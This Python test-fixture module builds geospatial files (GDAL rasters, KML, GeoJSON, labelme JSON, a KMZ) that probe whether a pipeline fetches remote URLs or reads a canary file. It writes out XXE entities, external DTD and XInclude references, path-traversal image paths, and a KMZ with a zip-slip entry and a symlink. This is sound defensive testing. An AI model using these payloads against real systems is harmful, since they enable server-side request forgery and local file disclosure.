"""Files that try to reach out: to an address that would tell who is looking, or to a file that is none of theirs."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path

from PIL import Image

SECRET = "canary-4711"


def images(folder: Path, url: str, canary: Path) -> list[Path]:
    """Images (by name) that name other images: at an address, or the file `canary`."""
    made = []
    for name, source in {
        "web": f"/vsicurl/{url}/web.tif",
        "bare_web": f"{url}/bare.tif",
        "local": str(canary),
        "zip": f"/vsizip/{canary}/x.tif",
        "file_url": f"file://{canary}",
    }.items():
        made.append(_written(folder / f"vrt_{name}.tif", _vrt(source)))
        made.append(_with_tag(folder / f"overviews_{name}.tif", _metadata("OVERVIEW_FILE", "OVERVIEWS", source)))
        made.append(_with_pam(folder / f"pam_{name}.png", source))
        made.append(_with_tag(folder / f"proxy_{name}.tif", _metadata("FILENAME", "ProxyOverviewRequest", source)))
        beside = _with_tag(folder / f"beside_{name}.tif", "")
        _with_tag(beside.with_name(f"{beside.name}.ovr"), _metadata("OVERVIEW_FILE", "overviews", source))
        made.append(beside)
    made.append(_written(folder / "service.jpg", _service(url)))
    made.append(
        _written(folder / "inline.png", f"<GDAL_WMTS><GetCapabilitiesUrl>{url}/w</GetCapabilitiesUrl></GDAL_WMTS>")
    )
    made.append(
        _with_tag(folder / "xmp_link.tif", f'<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{url}/x"/>')
    )
    return made


def vectors(folder: Path, url: str, canary: Path) -> list[Path]:
    """Files of features with entities, links and paths."""
    point = "<Placemark><name>{}</name><Point><coordinates>128,41</coordinates></Point></Placemark>"
    kml = '<kml xmlns="http://www.opengis.net/kml/2.2" xmlns:xi="http://www.w3.org/2001/XInclude" {}>{}</kml>'
    texts = {
        "entity_file.kml": f'<!DOCTYPE k [<!ENTITY e SYSTEM "file://{canary}">]>' + kml.format("", point.format("&e;")),
        "entity_web.kml": f'<!DOCTYPE k [<!ENTITY e SYSTEM "{url}/e">]>' + kml.format("", point.format("&e;")),
        "parameter.kml": f'<!DOCTYPE k [<!ENTITY % p SYSTEM "{url}/p"> %p;]>' + kml.format("", point.format("p")),
        "dtd.kml": f'<!DOCTYPE kml SYSTEM "{url}/kml.dtd">' + kml.format("", point.format("d")),
        "stylesheet.kml": f'<?xml-stylesheet href="{url}/s.xsl" type="text/xsl"?>' + kml.format("", point.format("s")),
        "schema.kml": kml.format(
            f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://x {url}/x.xsd"',
            point.format("x"),
        ),
        "include.kml": kml.format(
            "", f'<Document><xi:include href="{canary}" parse="text"/>{point.format("i")}</Document>'
        ),
        "network_link.kml": kml.format("", f"<NetworkLink><Link><href>{url}/n.kml</href></Link></NetworkLink>"),
        "overlay.kml": kml.format("", f"<GroundOverlay><Icon><href>{url}/o.png</href></Icon>{_BOX}</GroundOverlay>"),
        "overlay_file.kml": kml.format("", f"<GroundOverlay><Icon><href>{canary}</href></Icon>{_BOX}</GroundOverlay>"),
        "schema_url.kml": kml.format(
            "", f'<Placemark><ExtendedData><SchemaData schemaUrl="{url}/s#x"/></ExtendedData>{_POINT}</Placemark>'
        ),
    }
    made = [_written(folder / name, text) for name, text in texts.items()]
    made += [_geojson(folder / f"crs_{n}.geojson", crs) for n, crs in enumerate(_systems(url, canary))]
    made.append(_kmz(folder / "links.kmz", texts["overlay.kml"], canary))
    for n, named in enumerate((str(canary), f"{url}/i.png", "../" * 12 + str(canary)[1:])):
        shape = {"label": "car", "points": [[1, 1], [9, 9]], "shape_type": "rectangle"}
        labels = {"imagePath": named, "imageHeight": 20, "imageWidth": 20, "imageData": None, "shapes": [shape]}
        made.append(_written(folder / f"labelme_{n}.json", json.dumps(labels)))
    return made


_POINT = "<Point><coordinates>128,41</coordinates></Point>"
_BOX = "<LatLonBox><north>42</north><south>41</south><east>129</east><west>128</west></LatLonBox>"


def _systems(url: str, canary: Path) -> list[dict[str, object]]:
    named = (
        f"+init={canary}:1",
        f"+proj=longlat +nadgrids={canary} +type=crs",
        f"+proj=pipeline +step +proj=hgridshift +grids={url}/g.tif",
        str(canary),
        f"{url}/crs",
        "urn:ogc:def:crs:EPSG::5179",
    )
    found: list[dict[str, object]] = [{"type": "name", "properties": {"name": name}} for name in named]
    found.append({"type": "link", "properties": {"href": f"{url}/crs", "type": "proj4"}})
    found.append({"type": "link", "properties": {"href": f"file://{canary}", "type": "ogcwkt"}})
    return found


def _written(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _vrt(source: str) -> str:
    band = f'<SimpleSource><SourceFilename relativeToVRT="0">{source}</SourceFilename><SourceBand>1</SourceBand>'
    return (
        '<VRTDataset rasterXSize="20" rasterYSize="20"><VRTRasterBand dataType="Byte" band="1">'
        f"{band}</SimpleSource></VRTRasterBand></VRTDataset>"
    )


def _service(url: str) -> str:
    window = (
        "<UpperLeftX>-180</UpperLeftX><UpperLeftY>90</UpperLeftY><LowerRightX>180</LowerRightX>"
        "<LowerRightY>-90</LowerRightY><SizeX>512</SizeX><SizeY>256</SizeY>"
    )
    return (
        f'<GDAL_WMS><Service name="TMS"><ServerUrl>{url}/${{z}}/${{x}}/${{y}}</ServerUrl></Service>'
        f"<DataWindow>{window}</DataWindow><BandsCount>3</BandsCount></GDAL_WMS>"
    )


def _metadata(name: str, domain: str, value: str) -> str:
    return f'<GDALMetadata><Item name="{name}" domain="{domain}">{value}</Item></GDALMetadata>'


def _with_tag(path: Path, metadata: str) -> Path:
    """A sound TIFF whose tag 42112 holds what GDAL takes for its own metadata."""
    Image.new("L", (600, 600), 77).save(path, "TIFF", tiffinfo={42112: metadata})
    return path


def _with_pam(path: Path, source: str) -> Path:
    """A sound PNG with a file of GDAL's metadata beside it."""
    Image.new("L", (600, 600), 77).save(path)
    said = f'<Metadata domain="OVERVIEWS"><MDI key="OVERVIEW_FILE">{source}</MDI></Metadata>'
    _written(path.with_name(f"{path.name}.aux.xml"), f"<PAMDataset>{said}</PAMDataset>")
    return path


def _geojson(path: Path, crs: dict[str, object]) -> Path:
    feature = {"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [128, 41]}}
    return _written(path, json.dumps({"type": "FeatureCollection", "crs": crs, "features": [feature]}))


def _kmz(path: Path, kml: str, canary: Path) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("doc.kml", kml)
        archive.writestr("../../evil.kml", kml)
        link = zipfile.ZipInfo("link.kml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, str(canary))
    return path
